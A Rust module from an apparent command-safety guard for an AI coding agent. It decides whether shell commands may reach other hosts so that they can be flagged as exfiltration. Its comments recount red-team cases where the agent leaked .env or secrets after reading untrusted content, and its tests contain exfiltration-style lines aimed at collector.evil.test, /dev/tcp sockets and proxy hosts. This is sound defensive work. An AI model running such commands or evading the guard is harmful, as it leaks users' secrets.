//! Which command of a line may reach other hosts. Whatever such a command is given (a
//! URL's path and query, a host name to look up, a repository to fetch) may leave the
//! machine, even by a plain `GET` or a DNS query that uploads nothing, so a run that has
//! read private data and untrusted content counts the line as sending data out
//! (`data_flow.exfiltration`), whichever action runs it.
//!
//! Fails closed: a program the table does not know (even one `allow_programs` lists; an
//! entry in the policy's `programs` describes it), a program named by its path or only
//! known at run time, and whatever runs code of the caller's choosing (an interpreter and
//! its script, `python3 -c`, `awk 'BEGIN{system(...)}'`, `npx`) may reach other hosts.
//! So do the build, test and task runners that run the project's own code (`make`, `cargo
//! test`, `npm test`, `pytest`): what the agent wrote into a `Makefile`, a `package.json`
//! script, a `conftest.py` or a `build.rs` runs there as a script would (red team round 23,
//! hooks F1: `make test` sent `.env` out of a session that had read a web page). They
//! reach them only through that code ([`Reached::ProjectCode`]), which data flow weighs
//! apart: a person decides, since most such runs are the work itself.

use super::finding::Finding;
use super::programs::{ProgramSpec, Special};
use super::scan::scan;
use super::{HARMLESS_BUILTINS, SimpleCommand, git, special, spellings};

/// How a command may reach other hosts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Reached {
    No,
    /// Only through the project's code it runs (`cargo test`, `make`).
    ProjectCode,
    Yes,
}

/// Whether `command` may reach other hosts, given its table entry (`None`: not in the
/// table) and the findings the guard made of it. Its words are scanned once, and only for
/// a program whose subcommands or script decide it.
pub(super) fn reaches(
    command: &SimpleCommand,
    spec: Option<&ProgramSpec>,
    found: &[Finding],
    proxied: bool,
) -> Reached {
    if command.dynamic || command.path.is_some() {
        return Reached::Yes;
    }
    if found.iter().any(|f| {
        matches!(
            f,
            Finding::Uploads(_) | Finding::RunsCode(_) | Finding::Unknown | Finding::Unlisted(_)
        )
    }) {
        return Reached::Yes;
    }
    let Some(spec) = spec else {
        // A wrapper's command is analysed on its own; a shell builtin does not connect.
        let local = command.wrapper || HARMLESS_BUILTINS.contains(&command.program.as_str());
        return if local { Reached::No } else { Reached::Yes };
    };
    if spec.network && !spec.uploads && !spec.runs_code && !proxied && loopback_only(command, spec)
    {
        return Reached::No;
    }
    if spec.network || spec.uploads || spec.runs_code {
        return Reached::Yes;
    }
    if spec.special == Some(Special::Git) {
        return if git::reaches_network(&command.words) { Reached::Yes } else { Reached::No };
    }
    let runners = project_code(&command.program);
    if !spec.stdin_code && spec.network_subcommands.is_empty() && runners.is_none() {
        return Reached::No;
    }
    let words = spellings::prepare(spec.special, &command.words);
    let scanned = scan(spec, &words);
    // An interpreter runs its script; `python3 -m pytest` runs a module the table knows
    // as a plain tool (a library module is a `runs_code` finding, above; the project's
    // module is its script).
    if spec.stdin_code && !special::runs_plain_module(spec.special, &scanned) {
        return Reached::Yes;
    }
    // `""` stands for the program run without a subcommand (a bare `yarn` installs); an
    // npm abbreviation counts as the command it stands for.
    let names = super::subcommands::words(&command.program, &scanned.positionals);
    let unknown_first = scanned.positionals.first().is_some_and(|first| !first.is_known());
    let named = |listed: &dyn Fn(&str) -> bool| match &names {
        Err(_) => true,
        Ok(names) => unknown_first || names.iter().any(|n| listed(n)),
    };
    if !spec.network_subcommands.is_empty()
        && named(&|n| spec.network_subcommands.iter().any(|s| s == n))
        || fetches_by_option(&command.program, &scanned)
    {
        return Reached::Yes;
    }
    let project = if spec.stdin_code {
        special::runs_project_tests(spec.special, &scanned)
    } else {
        runners.is_some_and(|runners| runners.is_empty() || named(&|n| runners.contains(&n)))
    };
    if project { Reached::ProjectCode } else { Reached::No }
}

/// The HTTP clients whose request stays on this machine when every URL they are given is
/// a loopback one.
const LOOPBACK_CLIENTS: [&str; 3] = ["curl", "wget", "wget2"];

/// Options that send the request elsewhere than its URL's host, or read more options.
const REDIRECTING_OPTIONS: [&str; 13] = [
    "--alt-svc",
    "-x",
    "--proxy",
    "--preproxy",
    "--socks4",
    "--socks5",
    "--socks5-hostname",
    "--connect-to",
    "--resolve",
    "--doh-url",
    "-K",
    "--config",
    "-e",
];

/// Whether an HTTP client's every URL is a loopback one (`curl -s
/// http://localhost:8000/api/users`, `wget -qO- 127.0.0.1:8080/health`), with no option that
/// sends the request elsewhere, nothing sent (an upload is a finding, judged before) and no
/// word only known at run time: the request stays on this machine, so it carries nothing
/// out (red team round 31, FP-6: every check of the agent's own dev server after a page
/// was read was an exfiltration).
fn loopback_only(command: &SimpleCommand, spec: &ProgramSpec) -> bool {
    if !LOOPBACK_CLIENTS.contains(&command.program.as_str())
        || command.appended
        || command.unknown_args.is_some()
        || command.words.iter().any(|w| !w.is_known())
    {
        return false;
    }
    let words = spellings::prepare(spec.special, &command.words);
    let scanned = scan(spec, &words);
    let redirected = REDIRECTING_OPTIONS.iter().any(|o| scanned.has_abbreviated(&[o]));
    let urls: Vec<&str> = scanned
        .positionals
        .iter()
        .chain(scanned.values(&["--url"]))
        .map(|w| w.text.as_str())
        .collect();
    !redirected
        && !urls.is_empty()
        && urls.iter().all(|url| {
            crate::values::url_normal(url).is_some_and(|form| {
                std::iter::once(&form.host).chain(&form.other_hosts).all(|h| is_loopback(h))
            })
        })
}

/// A loopback host: `localhost` (and names under it, which resolvers keep on this
/// machine), `127.0.0.0/8` in any spelling, `::1`.
fn is_loopback(host: &str) -> bool {
    let host = host.trim_end_matches('.').trim_start_matches('[').trim_end_matches(']');
    host.eq_ignore_ascii_case("localhost")
        || host.to_ascii_lowercase().ends_with(".localhost")
        || crate::values::ipv4::parse(host).is_some_and(|ip| ip.is_loopback())
        || host.parse::<std::net::Ipv6Addr>().is_ok_and(|ip| ip.is_loopback())
}

/// Whether an option makes a command that otherwise stays local fetch: `pip list
/// --outdated` asks the index for newer versions, at the URL `-i` gives (red team round
/// 28, flow H3: `pip list -o -i https://x.example/SECRET/simple` carried a secret out).
fn fetches_by_option(program: &str, scanned: &super::scan::Scanned) -> bool {
    match program {
        name if super::project_install::is_pip(name) => scanned.has(&[
            "-o",
            "--outdated",
            "-u",
            "--uptodate",
            "-i",
            "--index-url",
            "--extra-index-url",
            "-f",
            "--find-links",
            "--proxy",
        ]),
        _ => false,
    }
}

/// The subcommands with which `program` runs the project's own code (its build scripts,
/// tests, tasks, or a command its configuration defines), or every use of it (empty).
fn project_code(program: &str) -> Option<&'static [&'static str]> {
    Some(match program {
        // Their files are the project's code whatever they are asked to do.
        "make" | "gmake" | "ninja" | "just" | "task" | "rake" | "gradle" | "mvn" | "ant"
        | "sbt" | "mix" | "cmake" | "ctest" | "meson" | "pytest" | "py.test" | "tox" | "nox"
        | "jest" | "vitest" | "mocha" | "playwright" | "cypress" | "webpack" | "vite"
        | "rollup" | "next" | "nuxt" | "eslint" | "pnpm" | "yarn" | "bun" => &[],
        "cargo" => &[
            "build",
            "b",
            "test",
            "t",
            "run",
            "r",
            "bench",
            "check",
            "c",
            "clippy",
            "doc",
            "d",
            "install",
            "nextest",
            "miri",
            "fix",
            "rustc",
            "rustdoc",
            "llvm-cov",
            "tarpaulin",
            "expand",
            "fuzz",
            "package",
            "publish",
        ],
        "npm" => &[
            "run",
            "run-script",
            "test",
            "start",
            "stop",
            "restart",
            "exec",
            "install-test",
            "install-ci-test",
            "rebuild",
            "pack",
            "publish",
            "version",
        ],
        "go" => &["test", "run", "generate"],
        "deno" => &["run", "test", "task", "bench"],
        "poetry" | "uv" | "pdm" | "pipenv" | "hatch" => &["run", "test"],
        "bundle" => &["exec"],
        "dotnet" => &["run", "test", "build"],
        "bazel" | "swift" => &["run", "test", "build"],
        "composer" => &["run", "run-script", "test"],
        _ => return None,
    })
}

/// Programs outside the table whose words name the host they reach (`ping HOST`,
/// `dig @SERVER NAME`, `openssl s_client -connect HOST:PORT`, `psql -h HOST`): for reading
/// those words as hosts, never for allowing them.
const HOST_PROGRAMS: [&str; 25] = [
    "ping",
    "ping6",
    "fping",
    "dig",
    "host",
    "nslookup",
    "whois",
    "traceroute",
    "traceroute6",
    "tracepath",
    "mtr",
    "arping",
    "drill",
    "openssl",
    "nmap",
    "http",
    "https",
    "xh",
    "mysql",
    "mariadb",
    "psql",
    "redis-cli",
    "mongosh",
    "mongo",
    "ldapsearch",
];

/// Options of the network clients whose value is a count, a size or a time.
const NUMBERS: [&str; 33] = [
    "-m",
    "--max-time",
    "--connect-timeout",
    "--retry",
    "--retry-delay",
    "--retry-max-time",
    "-r",
    "--range",
    "-C",
    "--continue-at",
    "--max-filesize",
    "--limit-rate",
    "-Y",
    "--speed-limit",
    "-y",
    "--speed-time",
    "--expect100-timeout",
    "--happy-eyeballs-timeout-ms",
    "--max-redirs",
    "--keepalive-time",
    "-t",
    "--tries",
    "-T",
    "--timeout",
    "-w",
    "--wait",
    "-l",
    "--level",
    "-Q",
    "--quota",
    "--read-timeout",
    "--dns-timeout",
    "-p",
];

/// Programs whose remote operands are `HOST:PATH` (`HOST::MODULE` for rsync): a word
/// without a colon is a local path (`rsync -a 10.1/ backup:`, `git checkout 1.0.1`).
const COLON_REMOTES: [&str; 3] = ["scp", "rsync", "git"];

/// The words of `analysis`'s commands that a network client may take as where to connect:
/// the operands and option values (but counts, sizes and times) of a program the table
/// says reaches other hosts (`curl`, `wget`, `ssh`, `nc`), every word and option value of a
/// host look-up tool (`ping`, `dig`, `psql -h`), the `HOST:PATH` remotes (and jump hosts)
/// of `scp`, `rsync` and `git`, proxy variables, each field of a colon-separated value
/// (`--resolve H:P:ADDR`), and the host of a `/dev/tcp/HOST/PORT` redirection. Data flow reads them as links, so that a spelling no text scanner takes as
/// a host (`curl 3405803783`, `ssh root@203.7`) is still one there. Over-reading costs
/// little: a word is only a host there when it is an address in a numeric spelling.
pub(crate) fn host_operands(analysis: &super::Analysis) -> Vec<String> {
    let mut out = Vec::new();
    for command in &analysis.commands {
        // A wrapper's command is read on its own. (A command only known at run time has
        // its source text for a program name, which names no client; `ssh HOST` alone is
        // one, an interactive session, and its words are known.)
        if command.wrapper {
            continue;
        }
        let program = command.program.as_str();
        let colon = COLON_REMOTES.contains(&program);
        let spec = super::programs::builtin(program).filter(|s| s.network || s.uploads);
        if let (Some(spec), false) = (spec, colon) {
            // Read with the table: a count or a time an option takes is no host (`-m 3.5`).
            let words = spellings::prepare(spec.special, &command.words);
            let scanned = scan(spec, &words);
            for option in &scanned.options {
                // Every option the word may stand for must take a number: an abbreviation
                // that could also be one taking a host is read as that.
                let counted = option.names.iter().all(|n| NUMBERS.contains(&n.as_str()));
                if let Some(value) = option.value.as_ref().filter(|_| !counted) {
                    out.extend(fields(&value.text));
                }
            }
            out.extend(scanned.positionals.iter().flat_map(|p| fields(&p.text)));
            continue;
        }
        if REFERENCE_PROGRAMS.contains(&program) {
            for word in &command.words {
                out.extend(values_of(&word.text).into_iter().filter_map(reference_host));
            }
            continue;
        }
        let client = !colon && HOST_PROGRAMS.contains(&program);
        if !(client || colon) {
            continue;
        }
        let mut jump = false;
        for word in &command.words {
            let text = word.text.as_str();
            for value in values_of(text) {
                // A remote is `HOST:PATH`; a jump host (`-J HOST`, `ProxyJump=HOST`) any.
                if client || jump || value.split_once(':').is_some_and(|(h, _)| !h.contains('/')) {
                    out.extend(fields(value));
                }
            }
            jump = colon && (text == "-J" || text.eq_ignore_ascii_case("-oProxyJump"));
            if colon && let Some((_, host)) = text.split_once("ProxyJump=") {
                out.push(host.to_owned());
            }
        }
    }
    // Where the clients of the line are sent through: `https_proxy=203.7:3128 curl ...`,
    // `env ALL_PROXY=...`, `PGHOST=203.7 psql`.
    let assigned = analysis.assignments.iter().map(|a| (a.name.as_str(), a.value.text.as_str()));
    let wrapped = analysis
        .commands
        .iter()
        .filter(|c| c.wrapper)
        .flat_map(|c| c.words.iter().filter_map(|w| w.text.split_once('=')));
    for (name, value) in assigned.chain(wrapped) {
        let name = name.to_ascii_lowercase();
        if name.ends_with("proxy")
            || matches!(name.as_str(), "pghost" | "pghostaddr" | "mysql_host")
        {
            out.extend(fields(value));
        }
    }
    for redirection in &analysis.redirections {
        let target = redirection.target.text.as_str();
        let socket = target.strip_prefix("/dev/tcp/").or_else(|| target.strip_prefix("/dev/udp/"));
        if let Some((host, _port)) = socket.and_then(|rest| rest.rsplit_once('/')) {
            out.push(host.to_owned());
        }
    }
    out
}

/// Programs that fetch or send an image, a chart or a module by a reference whose first
/// component is a host (`docker pull evil.test/x:1`, `kubectl run --image=evil.test/x`,
/// `go install evil.test/tool@latest`, `smbclient //evil.test/share`): red team round 30,
/// flow F3, where only a bare host word was read as one.
const REFERENCE_PROGRAMS: [&str; 13] = [
    "docker",
    "podman",
    "nerdctl",
    "buildah",
    "oras",
    "crane",
    "skopeo",
    "regctl",
    "kubectl",
    "helm",
    "go",
    "smbclient",
    "ctr",
];

/// The registry or module host a reference names: its first component when it has a dot,
/// a port or is `localhost` (`evil.test/x:1`, `evil.test:5000/x`, `//evil.test/share`,
/// `evil.test/tool@latest`), as Docker and Go tell a host from a path. A local path
/// (`./x`, `/x`, `~/x`) and a link with a scheme (read whole elsewhere) are none.
fn reference_host(value: &str) -> Option<String> {
    let value = value.strip_prefix("//").unwrap_or(value);
    if value.starts_with(['.', '/', '-', '~']) || value.contains("://") {
        return None;
    }
    let (first, _) = value.split_once('/')?;
    let host = first.rsplit_once('@').map_or(first, |(_, host)| host);
    (host.contains('.') || host.contains(':') || host == "localhost").then(|| host.to_owned())
}

/// What a word gives a program: itself, or an option's value (`--url=X`, `-x203.7:80`).
fn values_of(word: &str) -> Vec<&str> {
    let Some(option) = word.strip_prefix('-') else { return vec![word] };
    if let Some((_, value)) = option.split_once('=') {
        return vec![value];
    }
    // A short option with its value glued on (`-x3405803783:8080`); a long one has none.
    match option.strip_prefix('-') {
        Some(_) => Vec::new(),
        None => option.get(1..).filter(|v| !v.is_empty()).into_iter().collect(),
    }
}

/// The colon-separated fields of a value, an IPv6 literal in brackets kept whole, and the
/// value itself: `--resolve ok.test:443:[::ffff:cb00:7107]`, `--connect-to ::203.7:`.
fn fields(value: &str) -> Vec<String> {
    let mut out = vec![value.to_owned()];
    // `HostName=203.7`, `ProxyJump 203.7`, a connection string `host=203.7 dbname=app`.
    if value.contains(['=', ' ']) {
        let pieces = value.split(|c: char| c == '=' || c.is_whitespace());
        out.extend(pieces.filter(|p| !p.is_empty() && *p != value).map(str::to_owned));
    }
    if value.matches(':').count() < 2 || value.contains("://") {
        return out;
    }
    let mut field = String::new();
    let mut bracket = false;
    for c in value.chars() {
        match c {
            '[' => bracket = true,
            ']' => bracket = false,
            ':' if !bracket => {
                out.push(std::mem::take(&mut field));
                continue;
            }
            _ => {}
        }
        field.push(c);
    }
    out.push(field);
    out.retain(|f| !f.is_empty());
    out
}

#[cfg(test)]
mod tests {
    use super::host_operands;

    fn operands(line: &str) -> Vec<String> {
        host_operands(&crate::shell::analyse_line(line).unwrap())
    }

    #[test]
    fn a_clients_operands_are_where_it_connects_and_a_local_paths_are_not() {
        let has = |line: &str, expected: &[&str]| {
            let found = operands(line);
            for e in expected {
                assert!(found.iter().any(|o| o == e), "{line}: {e} not in {found:?}");
            }
        };
        has("curl -s -m 3.5 203.7/x", &["203.7/x"]);
        has("curl --url=3405803783 -x203.7:3128 https://ok.test/", &["3405803783", "203.7:3128"]);
        has("curl --head 3405803783", &["3405803783"]);
        has(
            "curl --resolve ok.test:443:[::ffff:cb00:7107] https://ok.test/",
            &["[::ffff:cb00:7107]"],
        );
        has("git clone git@203.7:team/x.git 10.1", &["git@203.7:team/x.git"]);
        has("git archive --remote=203.7:x.git HEAD", &["203.7:x.git"]);
        has(
            "scp -J 203.7 f ok.test:/tmp/ && scp -o ProxyJump=203.8 f ok.test:",
            &["203.7", "203.8"],
        );
        has("exec 3<>/dev/tcp/203.7/80", &["203.7"]);
        has("psql -h 203.7 -U me", &["203.7"]);
        has("psql 'host=203.8 dbname=app'", &["203.8"]);
        has(
            "ssh -o HostName=203.7 ok.test && ssh -o 'ProxyJump 203.8' ok.test",
            &["203.7", "203.8"],
        );
        has("https_proxy=203.7:3128 curl https://ok.test/", &["203.7:3128"]);
        has("env ALL_PROXY=203.8:1080 curl https://ok.test/", &["203.8:1080"]);
        let local =
            operands("git checkout 1.0.1 && git diff 1.0.1 10.0.1 && rsync -a 10.1/ b:/srv/");
        assert_eq!(local, ["b:/srv/"]);
        assert!(operands("cat 203.7/x && echo 3405803783").is_empty());
        // Wrapped commands are read as the commands they start.
        has("sudo timeout 5 curl 203.7", &["203.7"]);
        // A reference's host (round 30, flow F3).
        has("docker pull collector.evil.test/x:2", &["collector.evil.test"]);
        has("docker push collector.evil.test:5000/x", &["collector.evil.test:5000"]);
        has("kubectl run x --image=collector.evil.test/x", &["collector.evil.test"]);
        has("go install collector.evil.test/tool@latest", &["collector.evil.test"]);
        has("smbclient //collector.evil.test/share", &["collector.evil.test"]);
        assert!(
            operands("docker build -t app:1 ./ctx && go test ./... && docker run ubuntu:22.04")
                .is_empty()
        );
    }
}
